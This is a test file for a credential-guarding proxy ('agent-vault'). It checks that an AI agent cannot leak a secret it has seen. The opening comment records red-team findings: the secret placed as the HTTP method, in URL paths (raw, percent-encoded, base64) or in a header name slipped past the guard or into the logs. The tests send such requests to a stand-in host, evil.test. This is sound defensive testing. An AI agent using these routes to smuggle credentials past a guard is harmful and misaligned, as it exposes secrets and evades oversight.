// Attack (found by red-teaming): an agent that has seen a credential's value writes it where the
// guard did not look, and where the broker writes it down. (1) The request method: the parser
// takes any token as a method (RFC 9110 9.1), a value like `sk_live_…` is a token, and the request
// line went to a guarded host, another service and a plain http:// host as written, with the
// value as its method; the guard searched the URL, the headers and the body, not the method.
// (2) The log: a request the guard refused for a value in its path (or method) was written to
// requests.log and audit.log with that path, so `agent-vault log` and `audit export` showed the
// value. Both directions must hold zero bytes of it; (3) a header named with the value was named,
// lower-cased, in the refusal's message, which the log keeps. Broker and attacker: the unprivileged user.
import { describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { type RawResponse, readResponse } from "../support/proxy-client.ts";
import { type Broker, brokerForFile, requestInTunnel } from "../support/upgrade-broker.ts";

let B: Broker;
brokerForFile("av-guard-method-", (broker) => (B = broker));

function wireSince(tls: number, plain: number): string {
  return Buffer.concat([...B.upstream.wire.slice(tls).map((w) => w.data), ...B.plainWire.slice(plain)]).toString("latin1");
}

/** `method target` with Host and Connection: close, in a tunnel to `host` on the broker's session. */
async function inTunnel(host: string, method: string, target: string): Promise<RawResponse | null> {
  return requestInTunnel(B, method, target, { host, timeoutMs: 5_000 });
}

function expectRefused(r: RawResponse | null, what: string): void {
  expect(r?.status, `${what}: ${r?.text}`).toBe(403);
  expect(r?.headers["x-agent-vault-error"], what).toBe("credential_exfiltration");
}

describe("a credential's value as the request method", () => {
  test("to a guarded host, another service and its own service, in a tunnel: refused, zero bytes upstream", async () => {
    for (const host of ["evil.test", "api.other.test", "api.fake.test"]) {
      const tls = B.upstream.wire.length;
      const plain = B.plainWire.length;
      const r = await inTunnel(host, B.secret, "/m");
      expectRefused(r, host);
      expect(r!.text, host).toContain("the method");
      await Bun.sleep(100);
      expect(wireSince(tls, plain), host).not.toContain(B.secret);
    }
  });

  test("as a plain http:// request through HTTP_PROXY: refused, zero bytes upstream", async () => {
    const tls = B.upstream.wire.length;
    const plain = B.plainWire.length;
    const conn = await B.plain();
    conn.socket.write(`${B.secret} http://evil.test/m HTTP/1.1\r\nHost: evil.test\r\nProxy-Authorization: ${B.proxyAuth}\r\nConnection: close\r\n\r\n`);
    const r = await readResponse(conn.reader, { timeoutMs: 5_000 }).catch(() => null);
    conn.close();
    if (r) B.outputs.push(r.text);
    expectRefused(r, "plain");
    await Bun.sleep(100);
    expect(wireSince(tls, plain)).not.toContain(B.secret);
  });
});

describe("a refused request's line in the logs", () => {
  test("a value in the path (raw, percent-encoded, base64) or the method: requests.log, audit.log, log and audit export hold none of it", async () => {
    const spelled = B.secret.replace(/[a-z]/, (c) => `%${c.charCodeAt(0).toString(16)}`);
    for (const path of [`/p/${B.secret}`, `/p/${spelled}`, `/p/${Buffer.from(B.secret).toString("base64url")}`]) {
      expectRefused(await inTunnel("evil.test", "GET", path), path);
    }
    // Refused too (the describe above): only its log line is judged here.
    await inTunnel("evil.test", B.secret, "/m2");
    // A header named with the value: refused, and its message (which reaches the log) names no header.
    const named = await requestInTunnel(B, "GET", "/h", { host: "evil.test", headers: [[`X-${B.secret}`, "1"]], timeoutMs: 5_000 });
    expectRefused(named, "a header named with the value");
    expect(named!.text.toLowerCase()).not.toContain(B.secret.toLowerCase());
    // The request log is batched, the audit within milliseconds for refusals.
    await Bun.sleep(1_500);
    const forms = [B.secret, Buffer.from(B.secret).toString("base64url"), B.secret.slice(9)];
    const log = await B.cli(["log", "-n", "50", "--json"]);
    const exported = await B.cli(["audit", "export", "--json"]);
    expect(log.code, log.stderr).toBe(0);
    expect(exported.code, exported.stderr).toBe(0);
    // The refusals are there, with the key named and the value withheld.
    expect(log.stdout).toContain("[withheld: carries FAKE_KEY]");
    for (const text of [B.log(), readFileSync(join(B.home.dir, "audit.log"), "utf8"), log.stdout, exported.stdout]) {
      for (const form of forms) expect(text.toLowerCase()).not.toContain(form.toLowerCase());
    }
  }, 30_000);

  test("the broker still answers, and nothing the agent got holds the value", async () => {
    const r = await inTunnel("api.fake.test", "GET", "/after");
    expect(r?.status).toBe(200);
    for (const out of B.outputs) expect(out).not.toContain(B.secret);
  });
});
